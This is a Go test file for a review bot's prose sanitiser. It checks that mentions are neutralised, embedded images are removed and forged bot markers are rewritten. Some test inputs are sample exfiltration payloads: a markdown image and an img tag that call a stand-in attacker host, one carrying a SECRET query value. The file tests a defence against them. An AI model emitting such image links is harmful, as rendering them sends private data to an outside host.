package review

import (
	"regexp"
	"strings"
	"testing"
)

func TestSanitizeProse(t *testing.T) {
	tests := []struct{ in, want string }{
		{"ping @octocat and @org/team now", "ping @\u200boctocat and @\u200borg/team now"},
		{"mail me at a@b.com", "mail me at a@b.com"},
		{"the `@Override` annotation", "the `@Override` annotation"},
		{"![diagram](https://evil.example/x?k=SECRET) after", "[image removed: diagram] after"},
		{`<img src="https://evil.example/p.png"> hi`, "[embedded media removed] hi"},
		{"<!-- reviewbot:finding:abc -->", "<!-- quoted-reviewbot:finding:abc -->"},
		{"[a link](https://example.com) stays", "[a link](https://example.com) stays"},
		{"```java\n@Override\n![x](y)\n```\n@x", "```java\n@Override\n![x](y)\n```\n@\u200bx"},
	}
	for _, tt := range tests {
		if got := SanitizeProse(tt.in); got != tt.want {
			t.Errorf("SanitizeProse(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// FuzzSanitizeProse: outside code, nothing that notifies, loads or forges
// survives, and sanitising twice changes nothing more.
func FuzzSanitizeProse(f *testing.F) {
	f.Add("hi @x ![a](b) <img src=c> <!-- reviewbot:summary -->")
	f.Add("```\n@keep\n```\n@y")
	f.Fuzz(func(t *testing.T, s string) {
		out := SanitizeProse(s)
		if again := SanitizeProse(out); again != out {
			t.Fatalf("not idempotent:\n%q\n%q", out, again)
		}
		if strings.Contains(s, "`") {
			return // code spans and fences are deliberately left alone
		}
		for _, re := range []*regexp.Regexp{ourMarker, mdImage, htmlImage, mention} {
			if re.MatchString(out) {
				t.Fatalf("%v survived in %q", re, out)
			}
		}
	})
}
